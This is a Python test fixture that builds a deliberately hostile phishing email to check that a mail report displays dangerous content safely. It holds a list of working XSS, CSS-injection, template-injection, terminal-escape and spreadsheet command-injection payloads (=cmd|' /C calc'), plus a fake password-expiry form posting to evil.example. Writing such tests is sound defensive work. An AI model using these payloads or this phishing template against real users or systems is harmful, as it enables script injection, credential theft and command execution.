"""A mail full of markup, scripts, escapes of styles, templates and characters that turn text, in every place that a report shows."""

from __future__ import annotations

import base64
from email.header import Header

WORDS = (
    "<script>document.title='pwned'</script>", "\"><img src=x onerror=\"document.title='pwned'\">", "'--></style></title></textarea><svg onload=alert(1)>",
    "\\3c script\\3e alert(1)\\3c/script\\3e", "}</style>*{background:url(http://evil.example/css)}", "@import 'http://evil.example/i.css';",
    "\u202e\u2066gnp.exe\u2069\u202c", "\u200b\u00ad\ufeff", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "[x](javascript:alert(1)) ![y](http://evil.example/p.png) <http://evil.example/>", "```\n<b>\n```", "{{ 7*7 }} {% raw %}", "=cmd|' /C calc'!A0",
    "\x1b]0;pwned\x07\x1b[2J", "&lt;b&gt; &#x3c;i&#x3e;", "]]><![CDATA[", "http://evil.example/?a=<b>", "@everyone #1 :smile:", "e" + "\u0301" * 40,
)  # fmt: skip
ALL = " ".join(WORDS)


def _word(text: str) -> str:
    return Header(text.replace("\n", " ").replace("\x1b", " ").replace("\x07", " "), "utf-8", maxlinelen=70).encode()


def mail(owner: str = "info@own.example") -> bytes:
    """From a stranger; its HTML would fetch from eight places if anything of it were alive."""
    html = (
        f"<html><head><title>{ALL}</title><base href='http://evil.example/'><meta http-equiv=refresh content='0;url=http://evil.example/r'>"
        "<link rel=stylesheet href=http://evil.example/l.css><style>@import url(http://evil.example/s.css);"
        "@font-face{font-family:x;src:url(http://evil.example/f.woff)}body{background:url(http://evil.example/b.png);font-family:x}</style></head>"
        "<body background=http://evil.example/bg.gif onload=\"document.title='pwned'\"><script src=http://evil.example/x.js></script>"
        "<img src=http://evil.example/i.png srcset='http://evil.example/i2.png 2x'><iframe src=http://evil.example/></iframe>"
        "<form action=http://evil.example/login><input name=password type=password autofocus></form>"
        f"<p>Your password expires today. {ALL}</p><a href='http://login.evil.example/{ALL.replace(chr(39), '')}'>https://bank.example/</a>"
        "<svg><script>alert(1)</script></svg><video src=http://evil.example/v.mp4 autoplay></video></body></html>"
    )
    parts = "".join(
        f'--b\r\nContent-Type: {kind}; charset=utf-8; name="{_word(ALL)}"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
        f"{base64.encodebytes(text.encode('utf-8', 'surrogatepass')).decode()}\r\n"
        for kind, text in (("text/plain", f"Your password expires today.\n{ALL}\n"), ("text/html", html))
    )
    return (
        f"Return-Path: <bounce@evil.example>\r\n"
        f"Received: from mail.evil.example (mail.evil.example [192.0.2.7]) by mx.own.example (Postfix) with ESMTP id 4ABC for <{owner}>;\r\n"
        f" Mon, 2 Nov 2026 10:00:00 +0900 (JST)\r\n"
        f"From: {_word(ALL)} <account@evil.example>\r\nTo: {owner}\r\nSubject: {_word('Bank: ' + ALL)}\r\n"
        f'Date: Mon, 2 Nov 2026 09:59:50 +0900\r\nMessage-ID: <"<script>"@evil.example>\r\nX-Mailer: {_word(ALL)}\r\n'
        f"MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=b\r\n\r\n{parts}--b--\r\n"
    ).encode("utf-8", "surrogatepass")
